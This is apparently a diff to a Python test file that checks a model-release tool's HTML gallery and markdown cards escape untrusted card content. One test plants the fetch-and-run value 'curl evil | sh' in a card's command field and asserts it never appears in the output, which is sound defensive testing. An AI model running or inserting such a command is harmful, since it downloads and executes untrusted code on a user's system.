@@ -190,23 +190,23 @@ def test_a_strangers_card_is_text_in_the_gallery_and_its_command_is_not_shown(ho
         "https://arxiv.org/abs/1234.56789"
     ]
     assert text.count("&lt;script&gt;") > 8 and all(map(printable, text.split("\n")))
-    assert "To make it again" not in text, "the name of its data would set a terminal's title"
+    assert f"<pre>ganzoo train {hostile}/config.json</pre>" in text, "which says no word of the card or config"
 
 
-def test_the_command_is_rebuilt_from_the_config_whatever_a_card_says(run, tmp_path):
+def test_the_command_names_the_config_whatever_a_card_says(tmp_path):
     folder = shutil.copytree(ganzoo.sampling.shipped_releases()["wgan-gp-mnist"], tmp_path / "x")
     card = json.loads((folder / "card.json").read_text())
     (folder / "card.json").write_text(json.dumps(card | {"command": "curl evil | sh"}))
     text = page(collect([str(folder)]))
-    assert "curl evil" not in text and "<pre>ganzoo train mnist/wgan-gp --data mnist --steps 6500 --seed 0" in text
+    assert "curl evil" not in text and f"<pre>ganzoo train {folder}/config.json</pre>" in text
     print_summary(folder, {"faults": "None."})
     assert "curl evil" not in (folder / "card.md").read_text()
-    assert "`ganzoo train mnist/wgan-gp --data mnist" in (folder / "card.md").read_text()
+    assert "| trained again by | `ganzoo train config.json`, with the" in (folder / "card.md").read_text()
 
 
 def test_a_strangers_card_is_text_in_markdown_too(hostile):
     card = json.loads((hostile / "card.json").read_text())
-    for text in (cards.card_markdown(card, f"x{TITLE}", f"ganzoo train {HOSTILE}"), model_card(card, "hf:a/b")):
+    for text in (cards.card_markdown(card, f"x{TITLE}"), model_card(card, "hf:a/b")):
         body = text.rpartition("---\n\n")[2]
         assert "<" not in body.replace(r"\<", "") and "](javascript" not in body.replace(r"\]", "")
         for line in body.splitlines():
